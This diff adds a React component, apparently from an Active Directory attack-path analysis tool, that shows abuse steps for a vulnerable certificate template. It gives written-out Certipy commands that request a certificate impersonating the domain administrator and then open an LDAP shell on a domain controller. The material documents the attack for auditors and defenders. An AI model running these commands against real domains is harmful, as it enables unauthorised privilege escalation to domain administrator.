@@ -0,0 +1,49 @@
+// Copyright 2026 Specter Ops, Inc.
+//
+// Licensed under the Apache License, Version 2.0
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+//
+// SPDX-License-Identifier: Apache-2.0
+
+import { Box, Typography } from '@mui/material';
+import { FC } from 'react';
+
+const LinuxAbuse: FC = () => {
+    return (
+        <>
+            <Typography variant='body2'>An attacker may perform this attack in the following steps:</Typography>
+            <Typography variant='body2'>
+                <Box component='span' className='font-bold'>
+                    Step 1:
+                </Box>{' '}
+                Use Certipy to request enrollment in the affected template, specifying the target enterprise CA, the
+                target principal to impersonate and the Client Authentication application policy:
+            </Typography>
+            <Typography component={'pre'}>
+                {
+                    "certipy req -u john@corp.local -p Passw0rd -ca corp-DC-CA -target ca.corp.local -template WebServer -upn administrator@corp.local -application-policies 'Client Authentication'"
+                }
+            </Typography>
+            <Typography variant='body2'>
+                <Box component='span' className='font-bold'>
+                    Step 2:
+                </Box>{' '}
+                Use the certificate to authenticate to a domain controller via Schannel:
+            </Typography>
+            <Typography component={'pre'}>
+                {'certipy auth -pfx administrator.pfx -dc-ip 172.16.126.128 -ldap-shell'}
+            </Typography>
+        </>
+    );
+};
+
+export default LinuxAbuse;